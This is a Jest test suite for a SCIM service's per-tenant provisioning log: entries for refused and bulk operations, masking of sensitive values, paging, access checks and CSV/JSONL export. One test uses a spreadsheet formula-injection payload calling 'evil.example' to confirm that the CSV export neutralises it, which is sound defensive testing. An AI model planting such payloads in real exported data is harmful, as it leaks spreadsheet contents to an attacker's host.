import { expect, it } from '@jest/globals';

import { forEachEngine } from '../support/engines.js';
import { eventually } from '../support/eventually.js';
import { ScimClient, type ScimAnswer } from '../support/scim-client.js';
import {
  at,
  bodyOf,
  groupBody,
  listAt,
  makeUser,
  patchOp,
  textAt,
  unique,
  userBody,
} from '../support/scim-messages.js';
import type { TestTenant } from '../support/service.js';
import { serviceWorld } from './service-world.js';

const BULK = 'urn:ietf:params:scim:api:messages:2.0:BulkRequest';

forEachEngine('the provisioning log of a tenant', (engine) => {
  const world = serviceWorld(engine);

  const adminOf = ({ name }: TestTenant): ScimClient =>
    new ScimClient({
      baseUrl: `${world.service.origin}/admin/v1/tenants/${name}`,
      token: world.service.adminToken,
    });

  /** The entries that are found, once there are as many as expected. */
  async function entriesOf(tenant: TestTenant, query: string, count: number): Promise<readonly unknown[]> {
    let found: readonly unknown[] = [];
    await eventually(async () => {
      const answer = await adminOf(tenant).get(`/log?${query}`);
      expect(answer.status).toBe(200);
      found = listAt(answer.body, 'entries');
      expect(found).toHaveLength(count);
    });
    return found;
  }

  it('tells why one user did not arrive: looked for, refused with its own detail, and never made', async () => {
    const tenant = await world.tenant();
    const { client } = tenant;
    const userName = unique('Late');
    await makeUser(client, { userName: 'someone', externalId: 'taken' });
    await client.filter('/Users', `userName eq "${userName}"`);
    const refused = await client.send('POST', '/Users', {
      body: userBody({ userName, emails: 'none@example.com', name: 5, externalId: 'x-77' }),
      headers: { 'User-Agent': 'AzureAD SyncFabric', 'X-Request-Id': 'sync-1' },
    });
    expect(refused.status).toBe(400);
    const [last, first] = await entriesOf(tenant, `user=${userName.toUpperCase()}`, 2);
    expect(first).toMatchObject({
      ...{ operation: 'list', method: 'GET', status: 200, filter: `userName eq "${userName}"` },
      resource: { type: 'User', name: userName },
    });
    expect(last).toEqual({
      id: expect.stringMatching(/^[\da-f-]{36}$/),
      time: expect.stringMatching(/^\d{4}-.*Z$/),
      ...{ requestId: 'sync-1', operation: 'create', method: 'POST', status: 400 },
      scimType: textAt(refused.body, 'scimType'),
      detail: textAt(refused.body, 'detail'),
      resource: { type: 'User', name: userName, externalId: 'x-77' },
      changes: [],
      credential: { id: expect.any(String), name: 'spec' },
      client: { userAgent: 'AzureAD SyncFabric', address: '127.0.0.1' },
      durationMs: expect.any(Number),
    });
    expect(await entriesOf(tenant, 'user=x-77', 1)).toEqual([last]);
    expect(await entriesOf(tenant, 'request=sync-1&status=400&outcome=refused', 1)).toEqual([last]);
  });

  it('X-SEC-17: has what a change changed, with before and after, sensitive values masked and passwords never', async () => {
    const tenant = await world.tenant();
    const password = 'Canary-9876-secret!';
    const user = await makeUser(tenant.client, {
      title: 'Clerk',
      phoneNumbers: [{ value: '+49 30 55' }],
      password,
    });
    const changed = await tenant.client.patch(
      user.path,
      patchOp(
        { op: 'replace', path: 'title', value: 'Lead' },
        { op: 'replace', path: 'password', value: `${password}2` },
        { op: 'replace', path: 'phoneNumbers', value: [{ value: '+49 30 56' }] },
      ),
    );
    expect(changed.status).toBe(200);
    await tenant.client.put(user.path, { ...user.body, title: 'Chief' });
    expect((await tenant.client.delete(user.path)).status).toBe(204);
    expect((await tenant.client.get(user.path)).status).toBe(404);
    const entries = await entriesOf(tenant, `user=${user.id}`, 5);
    expect(entries.map((entry) => [at(entry, 'operation'), at(entry, 'status')])).toEqual([
      ['read', 404],
      ['delete', 204],
      ['replace', 200],
      ['modify', 200],
      ['create', 201],
    ]);
    expect(at(entries[3], 'changes')).toEqual(
      expect.arrayContaining([
        { path: 'title', before: 'Clerk', after: 'Lead' },
        { path: 'password' },
        { path: 'phoneNumbers', before: [{ value: '***' }], after: [{ value: '***' }] },
      ]),
    );
    expect(at(entries[1], 'resource')).toMatchObject({ id: user.id, name: textAt(user.body, 'userName') });
    const text = JSON.stringify(entries);
    expect(text).not.toContain(password);
    expect(text).not.toContain('argon2');
    expect(text).not.toContain('+49 30');
  });

  it('has one entry for each operation of a bulk request, tied by the id of the request', async () => {
    const tenant = await world.tenant();
    const [first, second] = [userBody(), userBody()];
    const answer = await tenant.client.send('POST', '/Bulk', {
      headers: { 'X-Request-Id': 'bulk-1' },
      body: {
        schemas: [BULK],
        Operations: [
          { method: 'POST', path: '/Users', bulkId: 'one', data: first },
          { method: 'POST', path: '/Users', bulkId: 'two', data: second },
          { method: 'POST', path: '/Users', bulkId: 'again', data: first },
          {
            method: 'POST',
            path: '/Groups',
            bulkId: 'crew',
            data: groupBody({ members: [{ value: 'bulkId:one' }] }),
          },
          { method: 'DELETE', path: '/Users/2819c223-7f76-453a-919d-413861904646' },
        ],
      },
    });
    expect(answer.status).toBe(200);
    const entries = (await entriesOf(tenant, 'request=bulk-1', 5)).toReversed();
    expect(
      entries.map((entry) => [at(entry, 'bulk', 'index'), at(entry, 'operation'), at(entry, 'status')]),
    ).toEqual([
      [0, 'create', 201],
      [1, 'create', 201],
      [2, 'create', 409],
      [3, 'create', 201],
      [4, 'delete', 404],
    ]);
    expect(entries[2]).toMatchObject({
      ...{ scimType: 'uniqueness', detail: expect.stringContaining('already used') },
      ...{ bulk: { bulkId: 'again' }, resource: { type: 'User', name: first['userName'] } },
    });
    expect(at(entries[3], 'changes')).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: 'members', after: expect.objectContaining({ count: 1 }) }),
      ]),
    );
    await entriesOf(tenant, `user=${String(second['userName'])}`, 1);
  });

  it('has what was refused before it came to a resource, and keeps tenants apart', async () => {
    const [tenant, other] = [await world.tenant(), await world.tenant()];
    await tenant.client.send('POST', '/Users', { raw: '{"userName":' });
    await tenant.client.get('/Nowhere');
    await tenant.client.get('/Users?count=-x');
    const entries = await entriesOf(tenant, 'outcome=refused', 3);
    for (const entry of entries) expect(at(entry, 'detail')).toEqual(expect.any(String));
    await entriesOf(other, '', 0);
  });

  it('is read page by page, and refuses what it does not know', async () => {
    const tenant = await world.tenant();
    for (let count = 0; count < 5; count += 1) await tenant.client.get(`/Users?count=${count}`);
    const all = await entriesOf(tenant, '', 5);
    const seen: unknown[] = [];
    let next = '';
    do {
      const { body } = await adminOf(tenant).get(`/log?limit=2${next === '' ? '' : `&cursor=${next}`}`);
      seen.push(...listAt(body, 'entries'));
      next = String(at(body, 'next') ?? '');
    } while (next !== '');
    expect(seen).toEqual(all);
    const wrong = [
      'nothing=1',
      'limit=0',
      'limit=1001',
      'status=9',
      'outcome=x',
      'since=2026-01-02',
      'cursor=x',
    ];
    for (const query of [...wrong, 'credential=x']) {
      const answer = await adminOf(tenant).get(`/log?${query}`);
      expect([query, answer.status]).toEqual([query, 400]);
      expect(at(answer.body, 'detail')).toEqual(expect.stringContaining(query.split('=')[0] ?? ''));
    }
    const nobody = new ScimClient({
      baseUrl: `${world.service.origin}/admin/v1/tenants/nobody`,
      token: world.service.adminToken,
    });
    for (const path of ['/log', '/log/export']) expect((await nobody.get(path)).status).toBe(404);
    const own = new ScimClient({ ...adminOf(tenant).access, token: tenant.token });
    for (const path of ['/log', '/log/export']) expect((await own.get(path)).status).toBe(403);
  });

  it('is exported as CSV without formulas, and as lines of JSON, more than a page of it', async () => {
    const tenant = await world.tenant();
    const formula = '=HYPERLINK("https://evil.example/"&A1)';
    await tenant.client.post('/Users', userBody({ userName: formula, name: 5 }));
    const operations = Array.from({ length: 700 }, () => ({
      method: 'DELETE',
      path: '/Users/2819c223-7f76-453a-919d-413861904646',
    }));
    await tenant.client.post('/Bulk', { schemas: [BULK], Operations: operations });
    await eventually(async () => expect(linesOf(await adminOf(tenant).get('/log/export'))).toHaveLength(701));
    const json = linesOf(await adminOf(tenant).get('/log/export?format=jsonl')).map((line) =>
      JSON.parse(line),
    );
    expect(new Set(json.map((entry) => at(entry, 'id'))).size).toBe(701);
    const csv = await adminOf(tenant).get('/log/export?format=csv');
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toContain(`provisioning-log-${tenant.name}.csv`);
    expect(csv.text.split('\r\n')).toHaveLength(703);
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
    expect(csv.text).not.toMatch(/(?:^|,)"[=+\-@\t\r]/m);
    const none = await adminOf(tenant).get('/log/export?format=csv&user=nobody');
    expect(linesOf(none)).toHaveLength(1);
    expect(bodyOf(await adminOf(tenant).get('/log?limit=1'))['entries']).toHaveLength(1);
  });
});

function linesOf({ text }: ScimAnswer): readonly string[] {
  return text.split('\n').filter((line) => line !== '');
}
